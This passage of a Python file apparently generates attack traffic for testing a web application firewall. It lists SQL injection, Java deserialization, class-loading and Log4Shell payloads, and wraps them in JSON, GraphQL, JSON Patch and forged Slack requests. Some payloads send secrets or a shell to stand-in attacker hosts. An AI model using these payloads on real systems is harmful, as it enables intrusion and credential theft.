        "'; alter table users drop column mfa;--",
        "-1 union select @@hostname",
        "1 UNION (SELECT 1)",
        "alter database app owner to attacker",
    )),
    # 942370 classic SQL injection probings 2/3 (PL2)
    Title("sqli", "classic-probing-2", (
        "' AND 1=1 AND '1'='1",
        "1' ORDER BY 1--+",
        "1' ORDER BY 10-- -",
        "' GROUP BY 1,2,3--",
        "1 and 1=2--",
        "\" and \"a\"=\"b",
        "1') and ('a'='a",
    )),
    # 942380 SQL Injection Attack (exists / having, PL2)
    Title("sqli", "sqli-exists-having", (
        "1 AND EXISTS(SELECT 1 FROM users)",
        "' OR EXISTS(SELECT * FROM admins WHERE 1=1)--",
        "1 having 1=1",
        "' GROUP BY id HAVING 1=1--",
        "1 and not exists(select 1)",
        "' or (select count(*) from users)>0 --",
        "1 AND 1 IN (SELECT 1)",
    )),
    # 942390 SQL Injection Attack (or / xor, PL2)
    Title("sqli", "sqli-or-xor", (
        "' OR 1 = 1 --",
        "1 xor 1",
        "' or 0x41=0x41 --",
        "x' XOR 'a'='b",
        "1 or true",
        "' || 'a'='a",
        "0 or 2 > 1",
    )),
    # 942400 SQL Injection Attack (and, PL2)
    Title("sqli", "sqli-and-expr", (
        "1 and 1=1",
        "' AND 'x' = 'x",
        "x' and 2>1--",
        "1 && 1",
        "' and true--",
        "1 AND ascii('a')=97",
        "'&&'1'='1",
    )),
    # 942410 SQL Injection Attack (functions, PL2)
    Title("sqli", "sqli-functions-2", (
        "1 and ascii(lower(substr(user(),1,1)))>100",
        "' or length(database())>1--",
        "1 AND hex(user())!=0",
        "' or instr(version(),'5')--",
        "1 and ord(mid(version(),1,1))=53",
        "' or sha1(1) like '%'--",
        "1 and bit_length(user())>0",
    )),
    # 942470 SQL Injection Attack (server objects and procedures, PL2)
    Title("sqli", "sqli-server-objects", (
        "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--",
        "1; exec sp_addlogin 'x','y'",
        "'; EXEC sp_password NULL,'x','sa'--",
        "select * from sysfilegroups",
        "1; EXEC xp_servicecontrol 'start','schedule'",
        "'; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'--",
        "' UNION SELECT name FROM syscolumns--",
        "'; exec master..sp_oacreate 'wscript.shell',@o out--",
    )),
    # 942480 SQL Injection Attack (clauses, PL2)
    Title("sqli", "sqli-clauses", (
        "' ORDER BY 5#",
        "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
        "' LIMIT 1 OFFSET 0--",
        "1 ORDER BY (SELECT 1)",
        "' UNION SELECT 1 FROM dual WHERE 1=1--",
        "x' INTO @a--",
        "1 PROCEDURE ANALYSE()",
    )),
    # 942430 Restricted SQL Character Anomaly Detection (PL2)
    Title("sqli", "special-char-anomaly", (
        "'\"'\"';;--((()))``''\"\"##",
        "a'|b'&c';d'(e)'",
        "x'),('y'),('z'),('w')--",
        "'''''''''''''''",
        "((((((((((1))))))))))",
        "'+';'+';'+';'+';'",
        "\"||\"||\"||\"||\"||\"||\"",
    )),
    # 942440 SQL Comment Sequence Detected (PL2)
    Title("sqli", "sql-comment-sequence", (
        "admin'--",
        "1/*",
        "x'#",
        "1;--",
        "' /* comment */ or 1=1",
        "--+",
        "1 -- -",
        "'/**/",
    )),
    # 942450 SQL Hex Encoding Identified (PL2)
    Title("sqli", "sql-hex-encoding", (
        "0x61646d696e",
        "1 union select 0x3c3f706870206576616c28245f504f53545b315d293b3f3e",
        "' or email=0x61646d696e406578616d706c652e636f6d--",
        "SELECT CHAR(0x41)",
        "x'||0x7e||'",
        "0x2f6574632f706173737764",
        "unhex('61646d696e')",
    )),
    # 942510 SQLi bypass attempt by ticks or backticks (PL2)
    Title("sqli", "ticks-backticks", (
        "`1`=`1`",
        "admin`--",
        "x` or `1",
        "`users` where 1",
        "'`'`",
        "`;drop table `users",
        "abc` OR ``=`",
    )),
    # 4.x JSON-Based SQL Injection
    Title("sqli", "sqli-json-operators", (
        "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1--",
        "1 AND '{\"x\":1}'::jsonb @> '{\"x\":1}'",
        "' OR data->>'role'='admin'--",
        "' OR JSON_KEYS(profile) IS NOT NULL--",
        "1 and json_valid('{}')",
        "' UNION SELECT json_agg(u) FROM users u--",
        "x' or '{\"a\":2}' -> '$.a' = 2 -- ",
        "1 OR JSON_CONTAINS(roles,'\"admin\"')",
    )),
    # 4.x MySQL Scientific Notation payload
    Title("sqli", "mysql-sci-notation", (
        "1.e1union select user()",
        "'or 1.e(1) or'",
        "1e0union select 1,2",
        "0.e1 or 1=1",
        "-1.e1 union select password from users",
        "1.0e0union all select null",
        "x'or'1.e1'='1.e1",
    )),
    # 4.x SQL Authentication bypass (split query): the two halves in two fields
    Title("sqli", "auth-bypass-split", (
        "admin'/* \u00a6 */ OR '1'='1",
        "admin' OR '1 \u00a6 '='1",
        "' OR 1=1 LIMIT 1;-- \u00a6 anything",
        "admin'-- \u00a6 x",
        "\\ \u00a6 OR 1=1-- -",
        "admin'# \u00a6 hunter2",
        "' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- \u00a6 password",
    ), structured="split"),
    # 4.x basic SQL authentication bypass 4/4
    Title("sqli", "auth-bypass-4", (
        "admin' or 1=1 or ''='",
        "' or 1=1 --  ",
        "'=0--+",
        "' or 0=0 #",
        "\" or 0=0 --",
        "or 1=1--",
        "' or ''-'",
        "'-''-- ",
    ), fields=("username", "login", "email")),
    # 944100 Suspicious Java class
    Title("java", "java-suspicious-class", (
        "java.lang.Runtime.getRuntime().exec('id')",
        "java.lang.ProcessBuilder",
        "java.lang.System.exit(0)",
        "new java.io.File('/etc/passwd')",
        "java.lang.Class.forName('java.lang.Runtime')",
        "java.net.URLClassLoader",
        "java.lang.reflect.Method.invoke",
        "javax.script.ScriptEngineManager",
    )),
    # 944110 Java process spawn (CVE-2017-9805)
    Title("java", "java-process-spawn", (
        "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime."
        "unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$"
        "XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
        "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\">"
        "<next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next></iter>"
        "</serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects."
        "NativeString></entry></map>",
        "<java.lang.ProcessBuilder><command><string>touch</string><string>/tmp/x</string></command>"
        "</java.lang.ProcessBuilder>",
        "new java.lang.ProcessBuilder(new String[]{\"bash\",\"-c\",\"id\"}).start()",
        "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
        "<string>calc</string></void></array><void method=\"start\"/></object>",
        "java.lang.Runtime.getRuntime().exec(\"nc 203.0.113.5 4444 -e sh\")",
        "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
        "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string>"
        "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "ProcessBuilder pb = new ProcessBuilder(\"cmd.exe\", \"/c\", \"dir\"); pb.start();",
    )),
    # 944120 Java serialization (CVE-2015-4852)
    Title("java", "java-serialization-gadgets", (
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections4.functors.ChainedTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "{\"@type\":\"org.apache.commons.collections.functors.InstantiateTransformer\"}",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.springframework.beans.factory.ObjectFactory",
        "java.util.PriorityQueue with InvokerTransformer.transform(java.lang.Runtime)",
    )),
    # 944130 Suspicious Java class
    Title("java", "java-suspicious-class-2", (
        "com.opensymphony.xwork2.ActionContext",
        "java.lang.Thread.sleep(5000)",
        "javax.naming.InitialContext",
        "org.apache.struts2.ServletActionContext",
        "java.io.FileOutputStream('/tmp/x')",
        "sun.misc.Unsafe",
        "java.lang.ClassLoader.getSystemClassLoader()",
        "com.sun.jndi.rmi.registry.RegistryContext",
    )),
    # 944200 Magic bytes, probable java serialization (PL2)
    Title("java", "java-magic-bytes", (
        "\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
        "aced0005737200",
        "ACED0005",
        "\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;",
        "%AC%ED%00%05sr",
        "\\xac\\xed\\x00\\x05",
        "AC ED 00 05 73 72",
    ), fields=("state", "remember", "cart", "preferences")),
    # 944210 Magic bytes Base64 encoded, probable java serialization (PL2)
    Title("java", "java-magic-base64", (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
        "rO0ABXQAA2FiYw==",
        "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg==",
        "AKztAAVzcgARamF2YS51dGlsLkhhc2hNYXA=",
        "AACs7QAFc3IADmphdmEubGFuZy5Mb25n",
        "session=rO0ABXNyAA5qYXZhLmxhbmcuTG9uZzuL5JDMjyPfAgABSgAFdmFsdWV4cgAQamF2YS5sYW5nLk51bWJlcoaslR0LlOCL"
        "AgAAeHAAAAAAAAAAAQ==",
        "rO0ABXcEAAAAAXQABWFkbWlu",
    ), fields=("state", "remember", "cart", "preferences")),
    # 944240 Java serialization (PL2)
    Title("java", "java-serialization-2", (
        "java.rmi.server.UnicastRemoteObject",
        "org.apache.commons.beanutils.BeanComparator",
        "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
        "java.rmi.registry.Registry",
        "org.hibernate.engine.spi.TypedValue",
        "com.sun.rowset.JdbcRowSetImpl",
        "org.apache.xalan.xsltc.trax.TemplatesImpl",
        "javax.management.BadAttributeValueExpException",
    )),
    # 944250 Suspicious Java method (PL2)
    Title("java", "java-suspicious-method", (
        "getRuntime().exec(\"id\")",
        "Class.forName(\"x\").getMethod(\"y\").invoke(null)",
        "getClass().getClassLoader()",
        ".getDeclaredField(\"modifiers\").setAccessible(true)",
        "Thread.currentThread().getContextClassLoader()",
        "System.getProperty(\"user.home\")",
        "Runtime.getRuntime().halt(0)",
        "new URLClassLoader(new URL[]{new URL(\"http://attacker.example/\")}).loadClass(\"X\")",
    )),
    # 4.x Log4j / Log4shell
    Title("java", "log4shell", (
        "${jndi:ldap://attacker.example:1389/a}",
        "${jndi:rmi://203.0.113.5/Exploit}",
        "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/x}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
        "${jndi:ldaps://attacker.example/a}",
    )),
    # 4.x Malicious class-loading payload
    Title("java", "java-class-loading", (
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.classLoader.resources.dirContext.docBase=/",
        "class.module.classLoader.URLs[0]=http://attacker.example/x.jar",
        "class['classLoader']['resources']['context']",
        "Class.forName(\"x\", true, new URLClassLoader(new URL[]{new URL(\"http://attacker.example/e.jar\")}))",
        "java.lang.ClassLoader.defineClass",
        "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance()}",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    )),
    # 4.x Suspicious Java method detected (reflection chains)
    Title("java", "java-reflection-chain", (
        "''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)",
        "Runtime.class.getMethod(\"exec\",String.class).invoke(Runtime.getRuntime(),\"id\")",
        "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\")",
        "java.lang.reflect.Array.newInstance(String.class,1)",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "#{request.getServletContext().getClassLoader()}",
        "sun.misc.Unsafe.getUnsafe().allocateInstance(x)",
    )),
)

# ------------------------------------------------------------------------------------------- JSON as encoders write it
STYLES = ("plain", "html", "plain", "slash", "ascii", "plain", "apos", "full", "html", "plain")


def _full_escape(s: str) -> str:
    raw = s.encode("utf-16-be")
    return '"' + "".join(f"\\u{raw[i]:02x}{raw[i + 1]:02x}" for i in range(0, len(raw), 2)) + '"'


def _lit(s: str, style: str) -> str:
    if isinstance(s, Num):
        return str(s)
    if isinstance(s, P):
        if style == "ascii":
            return json.dumps(str(s))
        if style == "full":
            return _full_escape(str(s))
        if style == "apos":
            return json.dumps(str(s), ensure_ascii=False).replace("'", "\\u0027")
    return json.dumps(str(s), ensure_ascii=False)


def dump(obj: Any, style: str, compact: bool) -> str:
    """JSON text in one style; P strings (keys too) carry the style, the rest is plain UTF-8."""
    sep, kv = (",", ":") if compact else (", ", ": ")
    if isinstance(obj, Pairs):
        return "{" + sep.join(_lit(k, style) + kv + dump(v, style, compact) for k, v in obj) + "}"
    if isinstance(obj, dict):
        return "{" + sep.join(_lit(k, style) + kv + dump(v, style, compact) for k, v in obj.items()) + "}"
    if isinstance(obj, list):
        return "[" + sep.join(dump(v, style, compact) for v in obj) + "]"
    if isinstance(obj, str):
        return _lit(obj, style)
    return json.dumps(obj)


def finish(text: str, style: str) -> str:
    """Whole-document escapes: Go's HTML-safe <, >, & and PHP's escaped slashes (never outside strings in JSON)."""
    if style == "html":
        return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    if style == "slash":
        return text.replace("/", "\\/")
    return text


def ser(obj: Any, style: str, compact: bool) -> str:
    return finish(dump(obj, style, compact), style)


def wrap(obj: Any) -> Any:
    """Every string of a structured payload (keys too) marked as payload."""
    if isinstance(obj, dict):
        return {P(k): wrap(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [wrap(v) for v in obj]
    if isinstance(obj, str):
        return P(obj)
    return obj


def leaf(obj: Any) -> tuple[list[str], Any]:
    """The first leaf of a structure: the keys (list indexes as strings) down to it, and its value."""
    keys: list[str] = []
    while isinstance(obj, dict | list) and obj:
        if isinstance(obj, dict):
            k = next(iter(obj))
            keys.append(str(k))
            obj = obj[k]
        else:
            keys.append("0")
            obj = obj[0]
    return keys, obj


# ----------------------------------------------------------------------------------------------------- the clients
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 "
    "Edg/125.0.0.0",
)
LIBRARIES = (
    "okhttp/4.12.0",
    "axios/1.7.2",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "AcmeApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeApp/5.2.0 (Android 14; Pixel 8)",
    "node-fetch/3.3.2",
)
LANGS = ("en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9", "ja-JP,ja;q=0.9")
REFERERS = ("https://app.example.com/settings/profile", "https://app.example.com/admin/users",
            "https://app.example.com/people/42", "https://app.example.com/settings/notifications")


def _token(r: random.Random, n: int = 24) -> str:
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(n))


def api_headers(r: random.Random, ctype: str, referer: str | None = None) -> dict[str, str]:
    """A browser single-page app or an API library; `referer` overrides the browser's ("" drops it)."""
    if r.random() < 0.55:
        h = {"User-Agent": r.choice(BROWSERS), "Accept": "application/json, text/plain, */*",
             "Accept-Language": r.choice(LANGS), "Accept-Encoding": "gzip, deflate, br", "Content-Type": ctype,
             "Origin": "https://app.example.com", "Referer": r.choice(REFERERS),
             "Cookie": f"session={_token(r, 32)}; consent=essential", "X-CSRF-Token": _token(r, 40),
             "Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}
    else:
        h = {"User-Agent": r.choice(LIBRARIES), "Accept": "application/json", "Accept-Encoding": "gzip",
             "Content-Type": ctype, "X-Request-Id": hashlib.sha256(_token(r).encode()).hexdigest()[:32]}
    if referer is not None:
        h.pop("Referer", None)
        if referer:
            h["Referer"] = referer
    return h


def slack_attack_headers(n: int) -> dict[str, str]:
    """What an attacker who cannot sign sends to the Events API: a made-up signature."""
    return {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
            "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
            "X-Slack-Request-Timestamp": str(EPOCH + n),
            "X-Slack-Signature": "v0=" + hashlib.sha256(f"{NAME}-forged-{n}".encode()).hexdigest()}


def slack_benign_headers(n: int, r: random.Random) -> dict[str, str]:
    """Slack's own headers (the replayer signs the record anew), now and then a retry."""
    h = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
         "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
         "X-Slack-Request-Timestamp": str(EPOCH + n), "X-Slack-Signature": "v0=" + "0" * 64}
    if r.random() < 0.05:
        h["X-Slack-Retry-Num"] = "1"
        h["X-Slack-Retry-Reason"] = "http_timeout"
    return h


def slack_envelope(event: dict[str, Any], n: int) -> dict[str, Any]:
    return {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T061EG9R6", "context_team_id": "T061EG9R6",
            "api_app_id": "A0PNCHHK2", "event": event, "type": "event_callback", "event_id": f"Ev07{n:07d}QX",
            "event_time": EPOCH + n, "authorizations": [{"enterprise_id": None, "team_id": "T061EG9R6",
                                                         "user_id": "U07BOT1234", "is_bot": True,
                                                         "is_enterprise_install": False}],
            "is_ext_shared_channel": False, "event_context": f"4-eyJldCI6Im1lc3NhZ2UiLCJ0aWQiOiJUMDYx{n:05d}"}


FIRST = ("Ann", "Siobhán", "Renée", "José", "Zoë", "Mohammed", "Priya", "Liam", "Chloé", "Dmitri", "Aoife", "Kenji",
         "Fatima", "Björn", "Olu", "Grace", "Tomás", "Mei", "Jean-Luc", "D'Arcy", "Nuala", "Rahul", "Ingrid", "Kwame")
LAST = ("O'Neil", "Nguyen", "García", "Smith-Jones", "Müller", "Kowalski", "D'Angelo", "Okafor", "Ó Briain",
        "van der Berg", "Tanaka", "Al-Sayed", "MacDonald", "Lefèvre", "Ng", "Papadopoulos", "Fitzgerald", "Haddad")
DEPARTMENTS = ("Platform Engineering", "R&D", "Sales & Marketing", "Customer Success", "Finance", "People Ops",
               "Security", "Data Science", "Support (EMEA)", "Legal", "Facilities", "Design")
JOBS = ("Senior SRE", "Staff Engineer, Databases", "Head of Sales", "Support Lead", "Product Designer", "DBA",
        "Data Analyst", "QA Engineer", "Engineering Manager", "Recruiter", "Office Manager", "Security Engineer")
TIMEZONES = ("Europe/Dublin", "America/New_York", "Asia/Tokyo", "Australia/Sydney", "America/Sao_Paulo",
             "Europe/Berlin", "Asia/Kolkata", "America/Los_Angeles")


def person(r: random.Random) -> dict[str, Any]:
    first, last = r.choice(FIRST), r.choice(LAST)
    plain = unicodedata.normalize("NFKD", first[0] + last).encode("ascii", "ignore").decode()
    handle = "".join(c for c in plain.lower() if c.isalnum() or c == "-")
    return {"name": f"{first} {last}", "email": f"{handle}@example.com", "department": r.choice(DEPARTMENTS),
            "title": r.choice(JOBS), "timezone": r.choice(TIMEZONES), "locale": r.choice(("en-IE", "en-US", "de-DE",
                                                                                          "fr-FR", "ja-JP"))}


# ------------------------------------------------------------------------------------------------ the attack places
CAT_FIELDS = {
    "sqli": ("id", "email", "username", "sort", "department", "employee_id", "manager_id", "search"),
    "xss": ("bio", "display_name", "title", "status_text", "signature", "company"),
    "lfi": ("avatar_path", "template", "export_file"),
    "rfi": ("avatar_url", "webhook_url"),
    "rce": ("hostname", "timezone", "filename", "branch", "ping_host", "display_name"),
    "php": ("bio", "template", "signature", "notes", "nickname"),
    "java": ("locale", "title", "department", "expression", "nickname"),
    "generic": ("filter", "callback_url", "notes", "expression"),
}
LOGGED = ("_trace_note", "client_debug", "x_log_message", "_client_context")
NUMBER_FIELDS = ("id", "employee_id", "manager_id", "age", "page")
HEADER_NAMES = {"user_agent": "User-Agent", "referer": "Referer", "x_forwarded_host": "X-Forwarded-Host",
                "via": "Via"}
SPLIT_PLACES = ("json", "json-nested", "json-array", "json-string-doc", "json-patch-value", "merge-patch",
                "slack-event")
LEADS = ("lookup user ", "ticket title: ", "hey bot, ", "please update my status to ", "search ", "note: ")
JSON_PATCH = "application/json-patch+json"
MERGE_PATCH = "application/merge-patch+json"
APP_JSON = "application/json"


@dataclass
class Built:
    method: str
    uri: str
    ctype: str
    body: str
    shape: str


def _value(t: Title, p: str, shape: str) -> tuple[Any, str]:
    """The payload as a JSON value: a marked string, a raw number, or a marked structure; and its kind."""
    if t.structured == "split":
        a, b = (s.strip() for s in p.split("\u00a6", 1))
        return {P("username"): P(a), P("passcode"): P(b)}, "obj"
    if t.structured and p.startswith("{"):
        return wrap(json.loads(p)), ("frag" if t.structured == "fragment" else "obj")
    if t.numeric and shape in ("field", "put-42"):
        try:
            float(p)
            json.loads(p)
            return Num(p), "str"
        except ValueError:
            pass
    return P(p), "str"


def _build(t: Title, place: str, p: str, r: random.Random, style: str, compact: bool, n: int) -> Built:
    fields = t.fields or CAT_FIELDS[t.category]
    field = r.choice(fields)
    header_sub = t.fields == HEADER_FIELDS
    base = person(r)
    doc: Any
    ops: Any
    if place == "json":
        shapes = ["field", "logged", "dup-last", "dup-first", "graphql", "put-42"]
        if t.fields:   # the field's name is part of the attack: keep it
            shapes = ["field", "field", "dup-last", "dup-first", "put-42"]
        if t.category == "sqli" and not t.fields:
            shapes.append("number-string")
        shape = r.choice(shapes)
        v, kind = _value(t, p, shape)
        if t.structured == "split":
            return Built("POST", "/api/auth/login", APP_JSON, ser({**v, "remember_me": True}, style, compact), "login")
        if kind == "frag":
            return Built("POST", "/api/users", APP_JSON, ser({**base, **v}, style, compact), "top-level")
        if shape == "graphql":
            if kind == "obj":
                doc = {"query": "query Users($f: UserFilter) { users(filter: $f) { id name email } }",
                       "variables": {"f": {field: v}}, "operationName": "Users"}
            else:
                arg = p.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")
                doc = {"query": P(f'query Search {{ users({field}: "{arg}", first: 20) {{ id name email }} }}'),
                       "variables": {}}
            return Built("POST", "/api/graphql", APP_JSON, ser(doc, style, compact), "graphql")
        if shape == "logged":
            return Built("POST", "/api/users", APP_JSON, ser({**base, r.choice(LOGGED): v}, style, compact), shape)
        if shape == "number-string":
            f = r.choice(NUMBER_FIELDS)
            return Built("POST", "/api/users", APP_JSON, ser({**base, f: v}, style, compact), f"{shape}:{f}")
        if shape.startswith("dup"):
            innocent = base.get(field, "n/a") if field in base else "n/a"
            pairs = [(k, val) for k, val in base.items() if k != field]
            doc = Pairs(pairs + ([(field, innocent), (field, v)] if shape == "dup-last"
                                 else [(field, v), (field, innocent)]))
            return Built("POST", "/api/users", APP_JSON, ser(doc, style, compact), f"{shape}:{field}")
        if shape == "put-42":
            return Built("PATCH", "/api/users/42", APP_JSON, ser({field: v}, style, compact), f"patch-json:{field}")
        return Built("POST", "/api/users", APP_JSON, ser({**base, field: v}, style, compact), f"field:{field}")
    v, kind = _value(t, p, "")
    if place == "json-key":
        if kind in ("obj", "frag"):
            doc = {"filter": v, "page": 1, "per_page": 50} if kind == "obj" else {"preferences": v}
            uri = "/api/users/search" if kind == "obj" else "/api/users/42/preferences"
            return Built("POST", uri, APP_JSON, ser(doc, style, compact), "operator-keys")
        shape = r.choice(["preferences", "top", "filters", "metadata"])
        if shape == "preferences":
            return Built("PUT", "/api/users/42/preferences", APP_JSON,
                         ser({"preferences": {v: True, "digest": "weekly"}}, style, compact), shape)
        if shape == "filters":
            return Built("POST", "/api/users/search", APP_JSON,
                         ser({"filters": {v: "active"}, "page": 1, "per_page": 20}, style, compact), shape)
        if shape == "metadata":
            return Built("POST", "/api/users", APP_JSON, ser({**base, "metadata": {v: "imported"}}, style, compact),
                         shape)
        return Built("POST", "/api/users", APP_JSON, ser({**base, v: "1"}, style, compact), shape)
    if place == "json-array":
        if header_sub:
            doc = {"sessions": [{"ip": "198.51.100.23", HEADER_NAMES[field].lower(): v, "last_seen": EPOCH}]}
            return Built("PUT", "/api/users/42/sessions", APP_JSON, ser(doc, style, compact), "sessions")
        shape = r.choice(["tags", "bulk", "objects", "aliases"]) if not t.fields else "bulk"
        if shape == "bulk":
            other = person(r)
            doc_l = [other, {**base, field: v}]
            return Built("POST", "/api/users/bulk", APP_JSON, ser(doc_l, style, compact), f"bulk:{field}")
        if shape == "objects":
            doc = {**base, "skills": [{"name": "Go", "level": 4}, {"name": v, "level": 2}]}
            return Built("POST", "/api/users", APP_JSON, ser(doc, style, compact), shape)
        key = "tags" if shape == "tags" else "aliases"
        doc = {**base, key: ["oncall", v, "emea"] if shape == "tags" else [v]}
        return Built("POST", "/api/users", APP_JSON, ser(doc, style, compact), shape)
    if place == "json-nested":
        if header_sub:
            doc = {"event": "login", "client": {"ip": "198.51.100.23", "headers": {HEADER_NAMES[field]: v,
                                                                                   "Accept-Language": "en-IE"}}}
            return Built("POST", "/api/users/42/sessions", APP_JSON, ser(doc, style, compact), "client-headers")
        if kind == "frag":
            return Built("POST", "/api/users", APP_JSON, ser({**base, "profile": v}, style, compact), "profile-frag")
        shape = r.choice(["address", "team", "audit", "details"]) if not t.fields else "details"
        if shape == "address":
            doc = {**base, "profile": {"address": {"street": v, "city": "Cork", "country": "IE"}}}
        elif shape == "team":
            doc = {**base, "organization": {"team": {"name": v, "lead": {"id": 7}}}}
        elif shape == "audit":
            doc = {**base, "meta": {"audit": {"note": v, "source": "import"}}}
        else:
            doc = {**base, "profile": {"details": {field: v}}}
        return Built("POST", "/api/users", APP_JSON, ser(doc, style, compact), shape)
    if place == "json-string-doc":
        container = r.choice(["settings", "metadata", "preferences"])
        if header_sub:
            container = "device_info"
            inner: Any = {"platform": "web", HEADER_NAMES[field].lower(): v}
        elif kind == "frag":
            inner = {"theme": "dark", **v}
        else:
            inner = {"theme": "dark", "language": "en", field: v}
        text = dump(inner, style, compact)
        if r.random() < 0.5:
            return Built("POST", "/api/users", APP_JSON, ser({**base, container: text}, style, compact), container)
        return Built("PATCH", "/api/users/42", APP_JSON, ser({container: text}, style, compact), container)
    if place == "json-patch-value":
        if header_sub:
            ops = [{"op": "add", "path": "/devices/0/user_agent" if field == "user_agent" else f"/devices/0/{field}",
                    "value": v}]
            shape = "devices"
        elif kind == "frag":
            ops = [{"op": "add", "path": "/profile", "value": v}]
            shape = "profile"
        else:
            shape = r.choice(["test-replace", "tags", "settings"] if not t.fields else ["test-replace", "settings"])
            if shape == "test-replace":
                ops = [{"op": "test", "path": "/version", "value": r.randint(2, 40)},
                       {"op": "replace", "path": f"/{field}", "value": v}]
            elif shape == "tags":
                ops = [{"op": "add", "path": "/tags/-", "value": v}]
            else:
                ops = [{"op": "add", "path": f"/settings/{field}", "value": v}]
        return Built("PATCH", "/api/users/42", JSON_PATCH, ser(ops, style, compact), shape)
    if place == "json-patch-path":
        if kind in ("obj", "frag"):
            keys, lv = leaf(v)
            prefix = "" if kind == "frag" else f"/filter/{field}"
            ops = [{"op": "add", "path": P(prefix + "/" + "/".join(keys)), "value": lv}]
            return Built("PATCH", "/api/users/42", JSON_PATCH, ser(ops, style, compact), "leaf-path")
        shape = r.choice(["add-path", "copy-from", "remove-path", "move-from"])
        if shape == "add-path":
            ops = [{"op": "add", "path": P("/preferences/" + p), "value": True}]
        elif shape == "copy-from":
            ops = [{"op": "copy", "from": P(p), "path": "/bio"}]
        elif shape == "remove-path":
            ops = [{"op": "remove", "path": P("/" + p)}]
        else:
            ops = [{"op": "move", "from": P("/drafts/" + p), "path": "/archived"}]
        return Built("PATCH", "/api/users/42", JSON_PATCH, ser(ops, style, compact), shape)
    if place == "merge-patch":
        if header_sub:
            doc = {"last_client": {HEADER_NAMES[field]: v, "ip": "198.51.100.23"}}
            return Built("PATCH", "/api/users/42", MERGE_PATCH, ser(doc, style, compact), "last-client")
        if kind == "frag":
            return Built("PATCH", "/api/users/42", MERGE_PATCH, ser({**v, "nickname": None}, style, compact),
                         "top-level")
        shape = r.choice(["profile", "flat", "settings"])
        if shape == "profile":
            doc = {"profile": {field: v}, "nickname": None}
        elif shape == "flat":
            doc = {field: v, "phone": None}
        else:
            doc = {"settings": {"notifications": {field: v}}}
        return Built("PATCH", "/api/users/42", MERGE_PATCH, ser(doc, style, compact), shape)
    # slack-event
    user = f"U0{r.randint(10**7, 10**8 - 1)}"
    ts = f"{EPOCH + n}.{r.randint(100000, 999999)}"
    channel = r.choice(("C0123456789", "C07GENERAL1", "C05HELPDESK"))
    if kind in ("obj", "frag"):
        event: dict[str, Any] = {"type": "message", "user": user, "text": "record updated", "ts": ts,
                                 "channel": channel, "channel_type": "channel",
                                 "metadata": {"event_type": "record_updated",
